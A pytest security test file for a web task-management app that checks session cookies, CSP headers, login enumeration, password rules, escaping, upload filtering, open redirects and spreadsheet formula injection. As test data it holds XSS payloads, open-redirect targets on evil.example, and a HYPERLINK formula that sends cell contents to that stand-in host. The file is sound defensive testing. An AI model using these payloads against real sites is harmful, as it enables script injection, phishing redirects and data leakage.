"""Web hardening: session cookies and their expiry, security headers and a CSP without inline script on every
page for every role, no user enumeration on login, password rules, escaped text and harmless uploads."""
import base64
import io
import re
import statistics
import time
from urllib.parse import urlencode
from datetime import timedelta

import pytest

from ntm_tasks import create_app
from ntm_tasks.auth.login import attempt_login
from ntm_tasks.extensions import db
from tests import factories
from tests.conftest import csrf_token
from tests.security.conftest import api_token, web_client
from tests.security.test_matrix import EXPECTED, is_api, resolve, routes

INLINE_SCRIPT = re.compile(rb"<script(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
STYLE_ATTRIBUTE = re.compile(rb"\sstyle=", re.IGNORECASE)
EVENT_ATTRIBUTE = re.compile(rb"<[^>]+\son[a-z]+\s*=", re.IGNORECASE)


def _cookie(response, name="session") -> str:
    for header in response.headers.getlist("Set-Cookie"):
        if header.startswith(f"{name}="):
            return header
    raise AssertionError(f"no {name} cookie set")


def _login(client, username, password=factories.PASSWORD):
    token = csrf_token(client, "/login")
    return client.post("/login", data={"username": username, "password": password, "csrf_token": token})


# --- session cookies -------------------------------------------------------------------------------

def test_session_cookie_is_httponly_samesite_and_expires_with_the_session(app, client, make):
    user = make.user("chair", make.unit())
    response = _login(client, user.username)
    cookie = _cookie(response)
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert "Secure" not in cookie  # plain HTTP by default: SESSION_COOKIE_SECURE=1 turns it on
    assert app.permanent_session_lifetime == timedelta(hours=8)
    assert "Expires=" in cookie


def test_secure_cookie_on_https_deployments(app, client, make, monkeypatch, database_url):
    monkeypatch.setenv("SESSION_COOKIE_SECURE", "1")
    assert create_app({"SQLALCHEMY_DATABASE_URI": database_url, "SECRET_KEY": "x"}).config["SESSION_COOKIE_SECURE"]
    monkeypatch.setitem(app.config, "SESSION_COOKIE_SECURE", True)
    user = make.user("chair", make.unit())
    assert "Secure" in _cookie(_login(client, user.username))


def test_the_server_refuses_a_session_older_than_its_lifetime(app, client, make, monkeypatch):
    from itsdangerous.timed import TimestampSigner

    user = make.user("chair", make.unit())
    _login(client, user.username)
    assert client.get("/meetings/").status_code == 200
    later = int(time.time() + app.permanent_session_lifetime.total_seconds() + 60)
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: later)
    response = client.get("/meetings/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


# --- headers and CSP on every page -----------------------------------------------------------------

PAGE_USERS = ("superadmin", "admin_a", "chair_a", "secretary_a", "assignee_a", "viewer_a", "chair_b", None)


def _check_page(label: str, response, problems: list) -> None:
    headers = response.headers
    if headers.get("X-Content-Type-Options") != "nosniff":
        problems.append(f"{label}: no X-Content-Type-Options: nosniff")
    content_type = headers.get("Content-Type", "")
    if not content_type.startswith("text/html"):
        return
    csp = headers.get("Content-Security-Policy", "")
    script_src = next((d for d in csp.split(";") if d.strip().startswith("script-src")), "")
    if script_src.strip() != "script-src 'self'" or "frame-ancestors 'none'" not in csp:
        problems.append(f"{label}: CSP {csp!r}")
    if headers.get("X-Frame-Options") != "DENY":
        problems.append(f"{label}: no X-Frame-Options: DENY")
    body = response.get_data()
    for pattern, what in ((INLINE_SCRIPT, "an inline <script>"), (STYLE_ATTRIBUTE, "a style= attribute"),
                          (EVENT_ATTRIBUTE, "an on...= event attribute")):
        match = pattern.search(body)
        if match:
            problems.append(f"{label}: {what}: {body[max(match.start() - 60, 0):match.end() + 60]!r}")


def test_every_page_for_every_role_has_the_headers_and_no_inline_script_or_style(app, world):
    """Every GET page of the URL map, and every form post that answers with a page, as each role."""
    problems, pages = [], 0
    for key in PAGE_USERS:
        user = world.users[key] if key else None
        client = web_client(app, user.row if user else None)
        for rule, method in routes(app):
            spec = EXPECTED[(rule.endpoint, method)]
            if is_api(rule) or rule.endpoint in ("auth.logout",) or method not in ("GET", "POST"):
                continue
            values, _names = resolve(world, rule)
            path = app.url_map.bind("localhost").build(rule.endpoint, values, method=method)
            if spec.query:
                path += "?" + urlencode(spec.query(world))
            if method == "GET":
                response = client.get(path)
            else:
                if spec.file:
                    continue
                response = client.post(path, data={**(spec.form(world) if spec.form else {}),
                                                   "csrf_token": client.csrf})
            pages += 1
            _check_page(f"{method} {path} as {key or 'anonymous'} ({response.status_code})", response, problems)
            response.close()
    assert pages > 400
    assert not problems, "\n".join(problems)


def test_api_answers_are_not_sniffed_nor_cached(app, world):
    token = api_token(app, world.user("chair_a"))
    response = app.test_client().get("/api/v1/tasks", headers={"Authorization": f"Bearer {token}"})
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"


# --- login: no enumeration, timing, throttling and lock-out ----------------------------------------

def _form_error(html: str) -> str:
    return " ".join(re.findall(r'class="invalid-feedback[^"]*"[^>]*>\s*([^<]+)', html)).strip()


def test_unknown_user_and_wrong_password_get_the_same_answer(app, make):
    user = make.user("chair", make.unit())
    answers = []
    for username in (user.username, "nobody-of-that-name"):
        client = app.test_client()
        response = _login(client, username, "wrong-password-1")
        answers.append((response.status_code, _form_error(response.get_data(as_text=True))))
        basic = base64.b64encode(f"{username}:wrong-password-1".encode()).decode()
        api = client.post("/api/v1/tokens", headers={"Authorization": f"Basic {basic}"})
        answers.append((api.status_code, api.get_json()))
    assert answers[0] == answers[2] and answers[1] == answers[3]
    assert answers[0][0] == 200 and answers[0][1] and answers[1][0] == 401


def test_unknown_user_costs_as_long_as_a_wrong_password(app, make, monkeypatch):
    """A dummy hash is checked for unknown names, so the time of the answer does not tell who exists."""
    from werkzeug.security import generate_password_hash

    monkeypatch.setattr("ntm_tasks.org.models.generate_password_hash", generate_password_hash)  # real strength
    user = make.user("chair", make.unit())

    def timed(username):
        started = time.perf_counter()
        attempt_login(username, "wrong-password-1")
        db.session.rollback()
        return time.perf_counter() - started

    timed("warm-up")
    known, unknown = [], []
    for _ in range(4):  # interleaved, so that load from elsewhere weighs on both alike
        known.append(timed(user.username))
        unknown.append(timed("nobody-of-that-name"))
    known, unknown = statistics.median(known), statistics.median(unknown)
    assert unknown > 0.02, "the password check must cost real time"
    assert 0.4 < unknown / known < 2.5, (known, unknown)


def test_lockout_throttling_and_sessions_end_on_password_change_are_tested_elsewhere():
    """tests/test_auth.py: test_lockout_after_repeated_failures, test_login_throttled_per_address_and_account,
    test_password_change_ends_other_sessions, test_open_redirect_refused."""
    import tests.test_auth as auth

    for name in ("test_lockout_after_repeated_failures", "test_login_throttled_per_address_and_account",
                 "test_password_change_ends_other_sessions", "test_open_redirect_refused"):
        assert hasattr(auth, name), name


def test_no_self_service_password_reset(app):
    """Admins reset passwords (the account form); no route lets anyone reset one by name or e-mail."""
    paths = [rule.rule for rule in app.url_map.iter_rules()]
    assert not [p for p in paths if re.search(r"forgot|password/reset|reset-password|recover", p)]


# --- password rules --------------------------------------------------------------------------------

@pytest.mark.parametrize("password", ["short1", "aaaaaaaaaa", "ababababab", "xNEWUSERx-2026"])
def test_weak_passwords_are_refused(api, make, password):
    admin = api(make.user("admin"))
    response = admin.post("/users", json={"username": "newuser", "password": password, "full_name": "A",
                                          "role": "viewer", "unit_id": None})
    assert response.status_code == 422
    assert "password" in response.get_json()["error"]["fields"]


def test_a_good_password_is_accepted_and_a_weak_change_refused(api, make, login, client):
    admin = api(make.user("admin"))
    response = admin.post("/users", json={"username": "newuser", "password": "lua-chin-vang-7", "full_name": "A",
                                          "role": "viewer", "unit_id": None})
    assert response.status_code == 201
    user = make.user("chair", make.unit())
    login(user)
    token = csrf_token(client, "/account/password")
    html = client.post("/account/password", data={"current_password": factories.PASSWORD, "new_password": "1111111111",
                                                   "confirm": "1111111111", "csrf_token": token}).get_data(as_text=True)
    assert "Ít nhất 8 ký tự" in html or "least 8" in html
    assert _login(client.application.test_client(), user.username).status_code == 302  # the old one still works


# --- text and files that could carry script --------------------------------------------------------

def test_text_is_escaped_on_the_pages(app, world):
    from ntm_tasks.assignments.models import Task

    task = db.session.get(Task, world.objects["task"].id)
    task.title = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    db.session.commit()
    client = web_client(app, world.user("chair_a"))
    for path in (f"/tasks/{task.id}", "/tasks", f"/meetings/{task.meeting_id}", "/dashboard"):
        html = client.get(path).get_data(as_text=True)
        assert "<script>alert" not in html and "<img src=x" not in html, path


def test_a_web_page_is_refused_and_markup_in_a_text_file_is_served_as_inert_text(app, world):
    client = app.test_client()
    headers = {"Authorization": f"Bearer {api_token(app, world.user('assignee_a'))}"}
    payload = b"<html><script>alert(document.cookie)</script></html>"

    def upload(name):
        return client.post(f"/api/v1/tasks/{world.objects['task'].id}/attachments", headers=headers,
                           data={"file": (io.BytesIO(payload), name)})

    assert upload("trang.html").status_code == 415
    response = upload("trang.txt")
    assert response.status_code == 201
    download = client.get(f"/api/v1/attachments/{response.get_json()['id']}", headers=headers)
    assert download.headers["Content-Type"].startswith("text/plain")
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download.headers["Content-Security-Policy"]
    download.close()


@pytest.mark.parametrize("name, content, status", [
    ("anh.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", 415),
    ("chay.exe", b"MZ\x90\x00", 415),
    ("gia.pdf", b"<html><script>alert(1)</script>", 415),  # the content must match the extension
])
def test_unsafe_files_are_refused(app, world, name, content, status):
    headers = {"Authorization": f"Bearer {api_token(app, world.user('assignee_a'))}"}
    response = app.test_client().post(f"/api/v1/tasks/{world.objects['task'].id}/attachments", headers=headers,
                                      data={"file": (io.BytesIO(content), name)})
    assert response.status_code == status


def test_out_of_scope_references_in_a_body_read_as_missing(app, world):
    """A unit, body or person outside the caller's scope is answered like one that does not exist (422, same
    message), never with a 403 or by accepting it: ids of other communes tell nothing."""
    headers = {"Authorization": f"Bearer {api_token(app, world.user('chair_a'))}"}
    client = app.test_client()
    task_id = world.objects["task"].id
    base = {"title": "Việc", "lead_body_id": world.bodies["ubnd_a"].id, "unit_id": world.units["a"].id}
    for field, elsewhere in (("unit_id", world.units["c"].id), ("lead_body_id", world.bodies["ubnd_c"].id),
                             ("responsible_user_id", world.user("chair_c").id)):
        answers = []
        for value in (elsewhere, 987654):
            response = client.post("/api/v1/tasks", headers=headers, json={**base, field: value})
            body = response.get_json()
            body["error"]["fields"] = {k: v.replace(str(value), "ID") for k, v in body["error"]["fields"].items()}
            answers.append((response.status_code, body))
        assert answers[0] == answers[1] and answers[0][0] == 422, (field, answers)
    version = client.get(f"/api/v1/tasks/{task_id}", headers=headers).get_json()["version"]
    response = client.patch(f"/api/v1/tasks/{task_id}", headers=headers,
                            json={"responsible_user_id": world.user("chair_c").id, "version": version})
    assert response.status_code == 422


@pytest.mark.parametrize("target", ["//evil.example/x", "/\\evil.example/x", "/\\/evil.example", "/\t/evil.example",
                                    "https://evil.example/", "javascript:alert(1)"])
def test_no_open_redirect_after_login_or_from_a_notification(app, world, target):
    """Browsers read "\\" as "/" and drop tabs: such a `next` would leave the site; it goes home instead."""
    client = app.test_client()
    token = csrf_token(client, "/login")
    user = world.user("assignee_a")
    response = client.post("/login?" + urlencode({"next": target}),
                           data={"username": user.username, "password": factories.PASSWORD, "csrf_token": token})
    assert response.status_code == 302 and response.headers["Location"] == "/"
    token = csrf_token(client, "/account/password")
    note = world.objects["notification"].id
    response = client.post(f"/notifications/{note}/read", data={"next": target, "csrf_token": token})
    assert response.status_code == 302 and response.headers["Location"] == "/notifications"
    response = client.post("/language/vi", data={"next": target, "csrf_token": token})
    assert response.headers["Location"] == "/"


def test_exported_reports_never_carry_a_formula(app, world):
    """A title typed as "=HYPERLINK(...)" is text in the CSV and the Excel report, never a formula to run."""
    from openpyxl import load_workbook

    from ntm_tasks.assignments.models import Task
    from ntm_tasks.db import today

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    task = db.session.get(Task, world.objects["task"].id)
    task.title = formula
    db.session.commit()
    headers = {"Authorization": f"Bearer {api_token(app, world.user('chair_a'))}"}
    query = urlencode({"unit_id": world.units["a"].id, "month": today().strftime("%Y-%m")})
    client = app.test_client()
    csv_text = client.get(f"/api/v1/reports/monthly.csv?{query}", headers=headers).get_data(as_text=True)
    assert "'" + formula.replace('"', '""') in csv_text
    workbook = load_workbook(io.BytesIO(client.get(f"/api/v1/reports/monthly.xlsx?{query}", headers=headers).data))
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for row in workbook.active.iter_rows() for c in row if c.data_type == "f"]
